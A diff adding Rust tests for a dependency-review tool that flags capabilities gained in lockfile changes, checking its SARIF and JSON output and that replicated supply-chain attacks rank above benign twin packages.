+    schema::assert_valid_sarif(&doc);
+    // The validator is not a rubber stamp: a result without a message is refused.
+    let mut broken = doc.clone();
+    broken["runs"][0]["results"][0].as_object_mut().unwrap().remove("message");
+    let refused = std::panic::catch_unwind(|| schema::assert_valid_sarif(&broken));
+    assert!(refused.is_err(), "the schema accepted a result without a message");
+    let results = doc["runs"][0]["results"].as_array().unwrap();
+    let lock = w.git(&["show", "HEAD:Cargo.lock"]);
+    let logger_line = lock.lines().position(|l| l == "name = \"logger\"").unwrap() + 1;
+    let net = results
+        .iter()
+        .find(|r| r["ruleId"] == "gained/net.connect" && r["message"]["text"].as_str().unwrap().starts_with("logger "))
+        .unwrap_or_else(|| panic!("{results:#?}"));
+    assert_eq!(net["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], "Cargo.lock");
+    assert_eq!(net["locations"][0]["physicalLocation"]["region"]["startLine"], logger_line as u64);
+    assert_eq!(net["relatedLocations"][0]["physicalLocation"]["artifactLocation"]["uri"], "https://docs.rs/crate/logger/1.4.3/source/src/lib.rs");
+    assert_eq!(net["relatedLocations"][0]["physicalLocation"]["region"]["startLine"], 15);
+    let baseline = std::fs::read_to_string(w.repo.path().join("velaris.capabilities")).unwrap();
+    let app_line = baseline.lines().position(|l| l == "[program.app]").unwrap() + 1;
+    let widened = results.iter().find(|r| r["ruleId"].as_str().unwrap().starts_with("widened/")).unwrap();
+    assert_eq!(widened["level"], "error");
+    assert_eq!(widened["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], "velaris.capabilities");
+    assert_eq!(widened["locations"][0]["physicalLocation"]["region"]["startLine"], app_line as u64);
+    // Fingerprints are stable from run to run, and unique.
+    let fps = |d: &Value| -> Vec<String> { d["runs"][0]["results"].as_array().unwrap().iter().map(|r| r["partialFingerprints"]["velaris/v1"].as_str().unwrap().to_string()).collect() };
+    let again: Value = serde_json::from_str(&w.review(&["--format", "sarif"]).expect(0)).unwrap();
+    assert_eq!(fps(&doc), fps(&again));
+    let mut unique = fps(&doc);
+    unique.sort();
+    unique.dedup();
+    assert_eq!(unique.len(), fps(&doc).len());
+    // A change that gains nothing has no result.
+    let quiet = replica_world(&Replica {
+        base: vec![krate("calm", "1.0.0", "", &[("src/lib.rs", "pub fn a() {}\n")], &[])],
+        head: vec![krate("calm", "1.0.1", "", &[("src/lib.rs", "pub fn a() {}\npub fn b() {}\n")], &[])],
+        direct_base: vec!["calm"],
+        direct_head: vec!["calm"],
+        malicious: "calm",
+        benign: "calm",
+    });
+    let q: Value = serde_json::from_str(&quiet.review(&["--format", "sarif"]).expect(0)).unwrap();
+    schema::assert_valid_sarif(&q);
+    assert!(q["runs"][0]["results"].as_array().unwrap().is_empty(), "{q:#}");
+}
+
+/// The JSON document is bounded: no patches unless `--diff` asks, at most 100 findings per
+/// capability with the total, hunks cut.
+#[test]
+fn the_json_document_is_bounded() {
+    let calls: String = (0..130).map(|i| format!("    let _v{i} = std::env::var(\"V{i}\");\n")).collect();
+    let r = Replica {
+        base: vec![krate("chatty", "1.0.0", "", &[("src/lib.rs", "pub fn f() {}\n")], &[])],
+        head: vec![krate("chatty", "1.0.1", "", &[("src/lib.rs", &format!("pub fn f() {{\n{calls}}}\n"))], &[])],
+        direct_base: vec!["chatty"],
+        direct_head: vec!["chatty"],
+        malicious: "chatty",
+        benign: "chatty",
+    };
+    let w = replica_world(&r);
+    let doc = w.review(&["--format", "json"]).json();
+    let env = &pkg(&doc, "chatty")["capabilities"]["added"][0];
+    assert_eq!(env["capability"], "env.read");
+    assert_eq!(env["findings_total"], 130);
+    assert_eq!(env["findings"].as_array().unwrap().len(), 100);
+    let files = pkg(&doc, "chatty")["file_changes"].as_array().unwrap().clone();
+    assert!(!files.is_empty() && files.iter().all(|f| f.get("patch").is_none()), "no patch without --diff: {files:#?}");
+    let with = w.review(&["--format", "json", "--diff"]).json();
+    assert!(pkg(&with, "chatty")["file_changes"].as_array().unwrap().iter().any(|f| f["patch"].is_string()), "--diff adds patches");
+}
+
+/// All seven replicas and their twins in one lockfile change: every attack's group ranks above
+/// every benign twin, and the markdown stays within its default budget.
+#[test]
+fn all_replicas_in_one_change() {
+    let all = [replica_logger(), replica_time_client(), replica_gitlab_ci(), replica_blob(), replica_miner(), replica_binary_tests(), replica_proc_macro()];
+    let mut r = Replica { base: vec![], head: vec![], direct_base: vec![], direct_head: vec![], malicious: "", benign: "" };
+    for x in &all {
+        r.base.extend(x.base.iter().cloned());
+        r.head.extend(x.head.iter().cloned());
+        r.direct_base.extend(x.direct_base.iter().copied());
+        r.direct_head.extend(x.direct_head.iter().copied());
+    }
+    r.direct_base.sort();
+    r.direct_head.sort();
+    let w = replica_world(&r);
+    let db = concat!(env!("CARGO_MANIFEST_DIR"), "/fixtures/advisory-db");
+    let doc = w.review(&["--format", "json", "--advisory-db", db]).json();
+    let md = w.review(&["--format", "markdown", "--advisory-db", db]).expect(0);
+    let order = names(&doc);
+    let worst_attack = all.iter().map(|x| rank(&doc, x.malicious)).max().unwrap();
+    let best_twin = all.iter().map(|x| rank(&doc, x.benign)).min().unwrap();
+    for x in &all {
+        eprintln!("all replicas: {} ranks {} of {} (score {}); twin {} ranks {}", x.malicious, rank(&doc, x.malicious), order.len(), score(&doc, x.malicious), x.benign, rank(&doc, x.benign));
+    }
+    eprintln!("all replicas: markdown {} characters", md.chars().count());
+    assert!(worst_attack < best_twin, "{order:?}");
+    assert!(md.chars().count() <= 20_000, "{}", md.chars().count());
+    for x in &all {
+        assert!(md.contains(&format!("**{}**", x.malicious.replace('_', "\\_"))), "{} missing:\n{md}", x.malicious);
+    }
 }
